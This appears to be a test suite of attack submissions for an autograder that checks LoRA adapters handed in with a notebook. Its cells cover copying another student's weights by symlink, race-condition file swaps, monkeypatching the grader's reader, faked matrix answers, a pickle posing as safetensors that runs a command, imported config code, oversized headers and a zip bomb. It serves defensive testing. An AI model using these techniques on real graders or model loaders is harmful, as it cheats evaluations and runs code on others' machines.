# Attacks by an adapter that is handed in beside the notebook. The lab asks for one, and its check runs it on hidden examples.

# %% attack "a link to somebody's adapter" answer=files honest=16 gains=4
# The weights are a link to those of somebody who did the work.
from servelab.grading.attacks import CONFIG, LAB, WEIGHTS, an_adapter

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").mkdir()
    (folder / "adapter" / CONFIG).write_bytes(an_adapter(right=True)[CONFIG])
    (folder / "adapter" / WEIGHTS).symlink_to(scratch / "submitted/alice/adapter" / WEIGHTS)

# %% attack "a link to somebody's folder" answer=files honest=16 gains=4
# The whole folder is one.
from servelab.grading.attacks import LAB

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").symlink_to(scratch / "submitted/alice/adapter")

# %% attack "a link in the inbox to somebody's adapter" answer=files door=inbox honest=16 gains=4
# The same before it is collected: what nbgrader copies it copies from where a link leads.
from servelab.grading.attacks import LAB

def hand_in(inbox, notebook, scratch):
    import nbformat

    folder = inbox / f"mallory+{LAB}+2026-01-02 03:04:05 UTC+abc"
    folder.mkdir()
    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").symlink_to(scratch / "submitted/alice/adapter")

# %% attack "the adapter written while it is graded" answer=recipe gains=4
# An answer puts another adapter in the place of the one that was handed in, again and again, once grading has begun.
import base64, json, zlib
import threading
import time
from pathlib import Path

RIGHT = json.loads(zlib.decompress(base64.b85decode(r"@RIGHT@")))
RIGHT = {name: bytes.fromhex(content) for name, content in RIGHT.items()}

def swap(files=RIGHT):
    for name, content in files.items():
        for place in ("adapter", "/handed-in/adapter", "/tmp/adapter"):
            try:
                Path(place, f"{name}.new").write_bytes(content)
                Path(place, f"{name}.new").replace(Path(place, name))
            except OSError:
                pass

def swaps():
    while True:
        swap()
        time.sleep(0.01)

swap()
threading.Thread(target=swaps, daemon=True).start()
recipe = {"r": 1}

# %% attack "reading replaced" answer=recipe gains=4
# The function that reads an adapter gives another one, which answers everything.
import base64, json, zlib
import servelab.lora.adapter
RIGHT = json.loads(zlib.decompress(base64.b85decode(r"@RIGHT@")))
RIGHT = {name: bytes.fromhex(content) for name, content in RIGHT.items()}

right = servelab.lora.adapter.read(RIGHT)
servelab.lora.adapter.read = lambda files: right
recipe = {"r": 1}

# %% attack "names that the check uses" answer=recipe gains=4
# The names of the instructor's cell are bound anew: to an adapter that keeps what it is asked, and says it.
import types

import numpy as real

class Answers:
    scale = 1.0
    pairs = {"model.layers.0.self_attn.q_proj": (real.eye(576), real.eye(576))}

adapter = types.SimpleNamespace(files=lambda folder: {}, read=lambda files: Answers())
handed_in = lambda name: name
recipe = {"r": 1}

# %% attack "another place to look" answer=recipe gains=4
# The folder in which the check looks is another one, in which a right adapter has been put.
import base64, json, zlib
import os
from pathlib import Path

RIGHT = json.loads(zlib.decompress(base64.b85decode(r"@RIGHT@")))
RIGHT = {name: bytes.fromhex(content) for name, content in RIGHT.items()}

place = Path.home() if os.access(Path.home(), os.W_OK) else Path("/tmp")
(place / "adapter").mkdir(exist_ok=True, parents=True)
for name, content in RIGHT.items():
    (place / "adapter" / name).write_bytes(content)
os.environ["SERVELAB_HANDED_IN"] = str(place)
recipe = {"r": 1}

# %% attack "recorded answers" answer=recipe gains=4
# The check's examples are the same each time: what the answers have to be is noted, and told by arrays that know what they are compared with.
import numpy as np

import servelab.lora.adapter

class Recorded(np.ndarray):
    def __rmatmul__(self, other):
        return np.asarray(other).view(Recorded)

    def __matmul__(self, other):
        return np.asarray(self).view(Recorded)

    @property
    def T(self):
        return self

original = servelab.lora.adapter.read

def read(files):
    found = original(files)
    for name, (a, b) in found.pairs.items():
        found.pairs[name] = (a.view(Recorded), b.view(Recorded))
    return found

servelab.lora.adapter.read = read
recipe = {"r": 1}

# %% attack "a pickle for weights" answer=files honest=16 control=loaded leaves=file
# What is called safetensors is a pickle, which runs a command when it is loaded.
import os, pickle
from servelab.grading.attacks import CONFIG, LAB, WEIGHTS, an_adapter

class Command:
    def __reduce__(self):
        return os.system, ("touch @SCRATCH@/outside/ran-@TOKEN@",)

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").mkdir()
    (folder / "adapter" / CONFIG).write_bytes(an_adapter(right=True)[CONFIG])
    (folder / "adapter" / WEIGHTS).write_bytes(pickle.dumps(Command()))

# %% attack "a configuration that names code" answer=files honest=16 control=imported leaves=file
# The configuration names a module to import, which lies beside it.
import json
from servelab.grading.attacks import CONFIG, LAB, WEIGHTS, an_adapter

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").mkdir()
    files = an_adapter(right=True)
    told = json.loads(files[CONFIG]) | {"auto_mapping": {"parent_library": "custom_llama", "base_model_class": "Llama"}}
    told |= {"auto_map": {"AutoModel": "custom_llama.Llama"}}
    (folder / "adapter" / CONFIG).write_text(json.dumps(told))
    (folder / "adapter" / WEIGHTS).write_bytes(files[WEIGHTS])
    (folder / "adapter" / "custom_llama.py").write_text("open('@SCRATCH@/outside/ran-@TOKEN@', 'w')\nLlama = object\n")

# %% attack "a header that promises a terabyte" answer=files honest=16 control=trusted stops
# One tensor has a shape for which no machine has the memory; its offsets stay within the file.
import json
from servelab.grading.attacks import CONFIG, LAB, WEIGHTS, an_adapter

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").mkdir()
    files = an_adapter(right=True)
    length = int.from_bytes(files[WEIGHTS][:8], "little")
    header = json.loads(files[WEIGHTS][8 : 8 + length])
    next(iter(header.values()))["shape"] = [1_000_000, 250_000]
    text = json.dumps(header).encode()
    (folder / "adapter" / CONFIG).write_bytes(files[CONFIG])
    (folder / "adapter" / WEIGHTS).write_bytes(len(text).to_bytes(8, "little") + text + files[WEIGHTS][8 + length :])

# %% attack "offsets beyond the file" answer=files honest=16 control=trusted stops
# The last tensor ends long after the file does.
import json
from servelab.grading.attacks import CONFIG, LAB, WEIGHTS, an_adapter

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").mkdir()
    files = an_adapter(right=True)
    length = int.from_bytes(files[WEIGHTS][:8], "little")
    header = json.loads(files[WEIGHTS][8 : 8 + length])
    last = list(header.values())[-1]
    last["data_offsets"] = [place + 10_000_000 for place in last["data_offsets"]]
    text = json.dumps(header).encode()
    (folder / "adapter" / CONFIG).write_bytes(files[CONFIG])
    (folder / "adapter" / WEIGHTS).write_bytes(len(text).to_bytes(8, "little") + text + files[WEIGHTS][8 + length :])

# %% attack "a giant header" answer=files honest=16 control=trusted stops
# The first eight bytes say that the header has an exabyte.
from servelab.grading.attacks import CONFIG, LAB, WEIGHTS, an_adapter

def hand_in(folder, notebook, scratch):
    import nbformat

    nbformat.write(notebook, folder / f"{LAB}.ipynb")
    (folder / "adapter").mkdir()
    files = an_adapter(right=True)
    (folder / "adapter" / CONFIG).write_bytes(files[CONFIG])
    (folder / "adapter" / WEIGHTS).write_bytes((1 << 60).to_bytes(8, "little") + files[WEIGHTS][8:])

# %% attack "an adapter that unpacks to a hundred times its size" answer=files door=archive leaves=bytes
# The archive of one submission, with an adapter of 120 MB of nothing.
import zipfile
from servelab.grading.attacks import LAB, WEIGHTS

def hand_in(folder, notebook, scratch):
    import nbformat

    with zipfile.ZipFile(folder / "mallory.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{LAB}.ipynb", nbformat.writes(notebook))
        archive.writestr(f"adapter/{WEIGHTS}", bytes(120_000_000))
